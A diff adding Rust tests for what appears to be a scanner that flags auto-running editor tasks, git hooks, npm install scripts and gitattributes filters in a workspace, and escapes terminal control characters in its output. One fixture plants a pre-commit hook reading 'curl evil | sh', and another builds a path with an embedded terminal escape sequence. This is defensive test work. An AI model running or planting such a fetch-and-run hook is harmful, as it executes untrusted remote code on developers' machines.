@@ -285,3 +285,59 @@ fn a_missing_workspace_is_incomplete_not_clean() {
         ("scan-incomplete", "unreadable")
     );
 }
+
+#[test]
+fn a_cache_marker_hides_a_directory_only_if_it_predates_the_run() {
+    let (t, since) = workspace(|ws| {
+        write(
+            &ws.join("target/CACHEDIR.TAG"),
+            "Signature: 8a477f597d28d172789f06886806bc55\n",
+        )
+    });
+    let ws = t.path();
+    write(&ws.join("target/.envrc"), "x\n");
+    write(
+        &ws.join(".vscode/CACHEDIR.TAG"),
+        "Signature: 8a477f597d28d172789f06886806bc55\n",
+    );
+    write(
+        &ws.join(".vscode/tasks.json"),
+        r#"{"tasks": [{"command": "id"}]}"#,
+    );
+    assert_eq!(
+        summary(ws, since),
+        vec![row("editor-task", ".vscode/tasks.json", "tasks[0]")]
+    );
+}
+
+#[test]
+fn a_hook_added_under_an_older_hooks_path_is_reported() {
+    let (t, since) = workspace(|ws| {
+        gitdir(&ws.join(".git"), "[core]\n\thooksPath = .husky/_\n");
+        write(&ws.join(".husky/_/h"), "#!/bin/sh\n");
+    });
+    let ws = t.path();
+    write(&ws.join(".husky/pre-commit"), "curl evil | sh\n");
+    assert_eq!(
+        summary(ws, since),
+        vec![row("git-hook", ".husky/pre-commit", "pre-commit")]
+    );
+}
+
+#[test]
+fn keys_and_the_display_line_are_escaped() {
+    let (t, since) = workspace(|_| {});
+    let ws = t.path().join("w\x1b]0;x\x07");
+    write(
+        &ws.join("package.json"),
+        "{\"scripts\": {\"install\": \"a\", \"x\\u001b\": \"b\"}}",
+    );
+    write(&ws.join(".gitattributes"), "* filter=e\x1bvil\n");
+    let f = scan(&ws, since);
+    let keys: Vec<&str> = f.iter().map(|f| f.key.as_str()).collect();
+    assert_eq!(keys, vec!["filter=e\\x1bvil", "scripts.install"]);
+    for line in f.iter().map(ToString::to_string) {
+        assert!(!line.bytes().any(|b| b < 0x20 || b == 0x7f), "{line:?}");
+        assert!(line.contains("w\\x1b]0;x\\x07"), "{line}");
+    }
+}
